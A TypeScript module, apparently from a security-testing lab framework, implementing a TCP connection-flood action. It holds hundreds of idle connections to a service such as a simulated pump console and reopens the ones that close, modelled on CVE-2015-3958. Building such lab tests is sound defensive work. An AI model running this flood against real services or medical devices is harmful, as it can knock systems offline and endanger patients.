import type net from 'node:net';
import { z } from 'zod';
import type { Endpoint } from '../engine/lab-under-test.ts';
import type { Action, AttackContext, ClientEvidence, StepReport } from './action.ts';
import { dial } from './clients/dial.ts';
import { failureOf, type ClientFailure } from './clients/failure.ts';
import { connectionChannel, evidence, evidenceCodes, report, statusOf, tally } from './evidence.ts';
import { holdInBackground, offerFloodSlots, type FloodSlots } from './held-connections.ts';
import { holdFor } from './lab-hold.ts';
import { addressOf, consoleService, consoleTargets, endpointFor } from './targets.ts';

const params = z.strictObject({
  /** A service name of the topology; `pump-maintenance` floods the first console reachable. */
  service: z.string().min(1).max(40),
  /** Connections kept open at once (bounded: the lab shares one machine). */
  connections: z.number().int().positive().max(500),
  /** Lab milliseconds to keep the flood up, from the step's start. */
  holdMs: z.number().int().positive().max(1_800_000),
  /** Return once the first wave is up and keep the flood going meanwhile, until `holdMs` has passed. */
  background: z.boolean().default(false),
});

/**
 * Real milliseconds: each connect; how long a connection must live to count as accepted; between
 * attempts to get a lost slot back (well under a pump's first reconnect delay, 125 ms at least);
 * before the first attempt after a connection was yielded, so the action it was yielded to goes first.
 */
const timing = { connectMs: 3_000, settleMs: 250, reopenMs: 20, yieldedMs: 60 };

/**
 * A connection flood against one service (CVE-2015-3958: a TCP flood left a pump needing a manual
 * reboot; ADVISORIES.md pattern 7): opens `connections` TCP connections from the attacker's address,
 * sending nothing, and holds those accepted until `holdMs` of lab time has passed, taking back the
 * slot of each one that closes. A connection counts as accepted when it outlives a short settle (a
 * gateway that refuses resets at once). Done when half the first wave was accepted, or when the
 * service itself turned the rest away (a clean close, no reset: it is full, and the flood holds it
 * full); a rate limit that resets most of them leaves it blocked, with each refusal's errno. With
 * `background` the step returns once the first wave is up, and the flood holds on while the next
 * steps run; a takeover by the same attacker may trade its connections for sessions (held-connections.ts).
 */
export const flood: Action<typeof params> = {
  name: 'flood',
  summary: 'Opens and holds many TCP connections to one service, reopening those that close.',
  params,
  async run(context, { service, connections, holdMs, background }) {
    const target = floodTarget(context, service);
    if (!target.ok) return report('blocked', `No route to ${service}.`, [target.evidence]);
    const end = context.lab.now() + holdMs;
    const held = new FloodConnections(context, target.endpoint);
    const firstWave = await Promise.all(Array.from({ length: connections }, () => held.openFirst()));
    const accepted = firstWave.filter(Boolean).length;
    const withdraw = offerFloodSlots(context, target.endpoint, held);
    const hold = async (): Promise<void> => {
      try {
        // Nothing accepted: nothing to hold. The lab closed: nothing left to hold.
        if (accepted > 0) await Promise.race([holdFor(context.lab, end - context.lab.now()), held.gone]);
      } finally {
        withdraw();
        await held.end();
      }
    };
    const inBackground = background && accepted > 0;
    if (inBackground) holdInBackground(context, hold);
    else await hold();
    const after = inBackground
      ? `held in the background for ${Math.round(holdMs / 1000)} lab s`
      : `${held.accepted} over the whole flood`;
    return floodReport(held, { service, connections, accepted, after, where: addressOf(target.endpoint) });
  },
};

/** The step's report: done when half the first wave got in, or the service turned the rest away full. */
function floodReport(
  held: FloodConnections,
  wave: { service: string; connections: number; accepted: number; after: string; where: string },
): StepReport {
  const { service, connections, accepted } = wave;
  const full = accepted > 0 && held.full;
  const line = `${accepted} of ${connections} accepted${full ? ', the rest turned away: the service is full' : ''}`;
  const items = [
    ...(accepted > 0 ? [evidence('socket', evidenceCodes.answered, line, wave.where)] : []),
    ...tally(held.refusals),
  ];
  const summary = `${accepted} of ${connections} connection(s) to ${service} were accepted${full ? ` (${service} is full)` : ''}; ${wave.after}.`;
  return report(statusOf(accepted * 2 >= connections || full), summary, items);
}

/** The flood's connections: the first wave, the slots it keeps, and the sessions it was left to close. */
class FloodConnections implements FloodSlots {
  readonly open = new Set<net.Socket>();
  /** What refused the first wave. */
  readonly refusals: ClientEvidence[] = [];
  /** Connections accepted over the whole flood. */
  accepted = 0;
  /** A connection was turned away by the service itself (a clean close, no reset): it is full. */
  full = false;
  private running = true;
  private targetGone = false;
  private markGone: () => void = () => undefined;
  /** Resolves when nothing listens there any more (ECONNREFUSED): the lab has closed. */
  readonly gone = new Promise<void>((resolve) => {
    this.markGone = () => {
      this.targetGone = true;
      resolve();
    };
  });
  private readonly adopted: (() => Promise<void>)[] = [];
  private readonly yielded = new WeakSet<net.Socket>();

  constructor(
    private readonly context: AttackContext,
    private readonly endpoint: Endpoint,
  ) {}

  /** One connection of the first wave: true when accepted (and held from then on). */
  async openFirst(): Promise<boolean> {
    const outcome = await openOne(this.context, this.endpoint);
    if (outcome.ok) return this.keep(outcome.socket);
    this.full ||= outcome.code === evidenceCodes.closed;
    const where = addressOf(this.endpoint);
    this.refusals.push(evidence(connectionChannel(outcome.code), outcome.code, 'connection refused', where));
    return false;
  }

  yieldOne(): boolean {
    const [socket] = this.open;
    if (!socket) return false;
    // Out of the set now, not at its 'close': the next yield must close another one.
    this.open.delete(socket);
    this.yielded.add(socket);
    socket.destroy();
    return true;
  }

  adopt(close: () => Promise<void>): boolean {
    if (this.running) this.adopted.push(close);
    return this.running;
  }

  /** Closes every connection and every session it was left, and waits for the sessions to close. */
  async end(): Promise<void> {
    this.running = false;
    for (const socket of this.open) socket.destroy();
    await Promise.allSettled(this.adopted.map((close) => close()));
  }

  private keep(socket: net.Socket): boolean {
    if (!this.running) {
      socket.destroy();
      return true;
    }
    this.accepted += 1;
    this.open.add(socket);
    socket.once('close', () => {
      this.open.delete(socket);
      // Never a rejection in the middle of a run: a failed take-back only leaves that slot free.
      this.takeBack(this.yielded.has(socket) ? timing.yieldedMs : timing.reopenMs).catch(() => undefined);
    });
    return true;
  }

  /** Tries again and again for the slot a closed connection left, while the flood runs. */
  private async takeBack(firstMs: number): Promise<void> {
    for (let waitMs = firstMs; this.running && !this.targetGone; waitMs = timing.reopenMs) {
      await new Promise((resolve) => setTimeout(resolve, waitMs));
      if (!this.running) return;
      const outcome = await openOne(this.context, this.endpoint);
      if (outcome.ok) {
        this.keep(outcome.socket);
        return;
      }
      this.full ||= outcome.code === evidenceCodes.closed;
      if (outcome.code === 'ECONNREFUSED') this.markGone();
    }
  }
}

/** Connects and waits out the settle: a reset inside it is the refusal. */
async function openOne(
  context: AttackContext,
  endpoint: Endpoint,
): Promise<{ ok: true; socket: net.Socket } | ClientFailure> {
  const dialed = await dial(endpoint, {
    localAddress: context.attacker.address,
    tls: false,
    timeoutMs: timing.connectMs,
  });
  if (!dialed.ok) return dialed;
  const { socket } = dialed;
  return new Promise((resolve) => {
    const timer = setTimeout(() => {
      socket.off('error', onError).off('close', onClose);
      resolve({ ok: true, socket });
    }, timing.settleMs);
    const onError = (error: Error): void => {
      clearTimeout(timer);
      socket.off('close', onClose);
      socket.destroy();
      resolve(failureOf(error));
    };
    const onClose = (): void => {
      clearTimeout(timer);
      socket.off('error', onError);
      resolve({ ok: false, code: evidenceCodes.closed, line: 'closed at once' });
    };
    socket.once('error', onError).once('close', onClose);
  });
}

function floodTarget(
  context: AttackContext,
  service: string,
): { ok: true; endpoint: Endpoint } | { ok: false; evidence: ClientEvidence } {
  if (service !== consoleService) return endpointFor(context, service);
  const first = consoleTargets(context)[0];
  return first
    ? { ok: true, endpoint: first }
    : { ok: false, evidence: evidence('socket', evidenceCodes.noEndpoint, 'no pump console') };
}
